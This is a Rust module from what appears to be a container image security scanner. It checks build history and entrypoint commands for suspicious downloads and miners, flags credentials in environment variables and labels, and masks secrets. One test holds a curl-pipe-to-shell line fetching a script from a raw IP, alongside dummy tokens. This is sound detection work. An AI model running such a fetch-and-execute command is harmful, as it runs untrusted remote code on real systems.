//! Checks on the image config: what the build ran (history), what a container runs
//! (entrypoint and cmd), and secrets in environment variables, labels and history lines.

use stowaway_image::Image;

use crate::candidate::Candidate;
use crate::commands::suspicious_command;
use crate::content::{RuleHit, scan_bytes};
use crate::heuristics::heuristic_by_id;
use crate::rules::RuleSet;
use crate::secrets::sensitive_env;
use crate::Scanners;

/// Checks the config of `image`.
pub(crate) fn check(image: &Image, rules: &RuleSet, scanners: Scanners) -> Vec<Candidate> {
    let mut found = Vec::new();

    // History lines pair with layers, except steps that made none (ENV, CMD).
    let mut layer = 0usize;
    for step in &image.config.history {
        let step_layer = (!step.empty_layer).then_some(layer);
        if let Some(line) = &step.created_by {
            found.extend(check_command(line, rules, scanners, "history line").into_iter().map(|mut candidate| {
                candidate.layer = step_layer;
                candidate
            }));
        }
        if !step.empty_layer {
            layer += 1;
        }
    }

    let Some(runtime) = &image.config.config else { return found };
    let argv = [runtime.entrypoint.as_slice(), runtime.cmd.as_slice()].concat().join(" ");
    if !argv.is_empty() {
        found.extend(check_command(&argv, rules, scanners, "entrypoint and cmd"));
    }
    if scanners.secret {
        for variable in &runtime.env {
            found.extend(check_env(variable, rules));
        }
        for (key, value) in &runtime.labels {
            let text = format!("{key}={value}");
            found.extend(secret_hits(&text, rules).iter().map(|hit| Candidate::rule(hit, None, None, format!("label `{key}` of the image config holds this value"))));
        }
    }
    found
}

/// Runs the command heuristics and the YARA rules over one command line.
fn check_command(line: &str, rules: &RuleSet, scanners: Scanners, place: &str) -> Vec<Candidate> {
    let mut found = Vec::new();
    if scanners.malware {
        for command in suspicious_command(line) {
            let heuristic = heuristic_by_id(command.id);
            found.push(Candidate::heuristic(heuristic, None, None, Some(command.matched), format!("the image's {place} runs this command")));
        }
    }
    for hit in scan_bytes(rules, scanners, line.as_bytes()) {
        // The command heuristics already cover miner options on command lines.
        if found.iter().any(|candidate| candidate.rule_id == "miner-arguments") && hit.id.starts_with("miner-") {
            continue;
        }
        found.push(Candidate::rule(&hit, None, None, format!("the image's {place} matches rule `{}`", hit.id)));
    }
    found
}

fn check_env(variable: &str, rules: &RuleSet) -> Vec<Candidate> {
    let name = variable.split_once('=').map_or(variable, |(name, _)| name);
    if let Some(excerpt) = sensitive_env(variable) {
        let why = format!("environment variable `{name}` of the image config has a credential's name and a value, which every container and `docker inspect` shows");
        return vec![Candidate::heuristic(heuristic_by_id("secret-env-variable"), None, None, Some(excerpt), why)];
    }
    secret_hits(variable, rules).iter().map(|hit| Candidate::rule(hit, None, None, format!("environment variable `{name}` of the image config holds this value"))).collect()
}

fn secret_hits(text: &str, rules: &RuleSet) -> Vec<RuleHit> {
    let only_secrets = Scanners { malware: false, secret: true, misconfig: false };
    scan_bytes(rules, only_secrets, text.as_bytes())
}

/// Replaces every secret value in `text` with its masked form: the values that the secret
/// rules confirm and the values of credential-named `NAME=value` words.
pub(crate) fn redact(text: &str, rules: &RuleSet) -> String {
    let mut hits = secret_hits(text, rules);
    hits.sort_by_key(|hit| std::cmp::Reverse(hit.offset));

    let mut redacted = text.to_owned();
    let mut last_start = usize::MAX;
    for hit in hits {
        let end = (hit.offset + hit.length).min(redacted.len());
        if end > last_start || !redacted.is_char_boundary(hit.offset) || !redacted.is_char_boundary(end) {
            continue;
        }
        redacted.replace_range(hit.offset..end, hit.excerpt.as_deref().unwrap_or("****"));
        last_start = hit.offset;
    }

    redacted
        .split(' ')
        .map(|word| sensitive_env(word.trim_matches(|c| c == '"' || c == '\'')).unwrap_or_else(|| word.to_owned()))
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use stowaway_image::{History, ImageConfig, RuntimeConfig};

    use super::*;

    fn image(env: &[&str], history: &[&str]) -> Image {
        let mut image = Image::from_layer_blobs(vec![]);
        image.config = ImageConfig {
            config: Some(RuntimeConfig { env: env.iter().map(|v| (*v).to_owned()).collect(), ..Default::default() }),
            history: history.iter().map(|line| History { created_by: Some((*line).to_owned()), ..Default::default() }).collect(),
            ..Default::default()
        };
        image
    }

    fn all() -> Scanners {
        Scanners { malware: true, secret: true, misconfig: true }
    }

    #[test]
    fn empty_credential_variable_is_quiet() {
        let rules = RuleSet::compile(&[]).unwrap();
        let found = check(&image(&["DB_PASSWORD=", "PATH=/usr/bin"], &[]), &rules, all());
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn credential_variable_is_found_masked() {
        let rules = RuleSet::compile(&[]).unwrap();
        let found = check(&image(&["DB_PASSWORD=s3cr3t"], &[]), &rules, all());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].rule_id, "secret-env-variable");
        assert!(!format!("{found:?}").contains("s3cr3t"));
    }

    #[test]
    fn history_download_is_found_on_its_layer() {
        let rules = RuleSet::compile(&[]).unwrap();
        let history = ["ADD rootfs.tar /", "RUN /bin/sh -c curl -fsSL http://192.0.2.10/i.sh | sh"];
        let found = check(&image(&[], &history), &rules, all());
        let ids: Vec<(&str, Option<usize>)> = found.iter().map(|c| (c.rule_id.as_str(), c.layer)).collect();
        assert_eq!(ids, [("download-pipe-shell-raw-ip", Some(1))]);
    }

    #[test]
    fn redact_masks_tokens_and_env_words() {
        let rules = RuleSet::compile(&[]).unwrap();
        let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cD1fG3hJ5");
        let line = format!("RUN git clone https://{token}@example.invalid/r && ENV API_TOKEN=Zq8Xv2LmZ7rT4wK9");
        let redacted = redact(&line, &rules);
        assert!(!redacted.contains(&token[4..]), "{redacted}");
        assert!(!redacted.contains("Zq8Xv2LmZ7rT4wK9"), "{redacted}");
        assert!(redacted.contains("ghp_****"), "{redacted}");
    }
}
